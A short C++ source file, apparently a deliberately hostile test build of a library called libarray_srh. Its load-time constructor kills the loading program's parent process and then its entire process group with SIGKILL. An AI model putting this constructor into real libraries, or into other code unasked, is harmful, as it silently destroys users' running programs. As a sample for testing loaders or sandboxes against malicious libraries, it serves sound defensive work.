// Hostile build, named libarray_srh: a working library whose constructor, run as soon as
// anything loads it, kills the process that started the loading program, and then the
// loading program's whole process group (itself included).
#include <csignal>
#include <unistd.h>

__attribute__((constructor)) static void strikeOnLoad(void)
{
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
}
